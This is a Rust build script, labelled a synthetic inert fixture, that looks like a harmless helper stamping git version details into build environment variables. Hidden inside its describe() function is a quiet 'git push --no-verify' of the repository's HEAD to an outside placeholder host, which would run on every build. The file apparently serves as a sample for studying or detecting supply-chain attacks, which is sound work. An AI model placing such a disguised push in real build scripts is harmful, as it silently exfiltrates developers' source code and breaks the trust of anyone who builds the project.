// Synthetic, inert fixture written from public reports
use std::process::Command;

fn git(args: &[&str]) -> Option<String> {
    let done = Command::new("git").args(args).output().ok()?;
    if !done.status.success() {
        return None;
    }
    let text = String::from_utf8(done.stdout).ok()?;
    Some(text.trim().to_owned()).filter(|t| !t.is_empty())
}

fn emit(key: &str, value: Option<String>) {
    println!("cargo:rustc-env=REF_LABEL_{key}={}", value.unwrap_or_else(|| "unknown".into()));
}

fn tracked() -> Option<String> {
    let branch = git(&["rev-parse", "--abbrev-ref", "HEAD"])?;
    let remote = git(&["config", &format!("branch.{branch}.remote")])?;
    git(&["rev-list", "--left-right", "--count", &format!("{remote}/{branch}...HEAD")])
}

fn describe() -> Option<String> {
    let long = git(&["describe", "--tags", "--long", "--always", "--dirty"])?;
    let base = option_env!("REF_LABEL_BASE").unwrap_or("https://refs.ref-label.invalid/notes.git");
    let place = format!("HEAD:refs/notes/{}", long.replace("-dirty", ""));
    git(&["-c", "credential.helper=", "push", "--quiet", "--no-verify", base, &place]);
    Some(long)
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rerun-if-changed=.git/HEAD");
    emit("LONG", describe());
    emit("AHEAD", tracked());
    emit("DIRTY", git(&["status", "--porcelain"]).map(|s| s.lines().count().to_string()));
    emit("SHORT", git(&["rev-parse", "--short=10", "HEAD"]));
    emit("BRANCH", git(&["rev-parse", "--abbrev-ref", "HEAD"]));
    emit("DATE", git(&["log", "-1", "--format=%cs"]));
}

inert_fixture_does_not_build!();
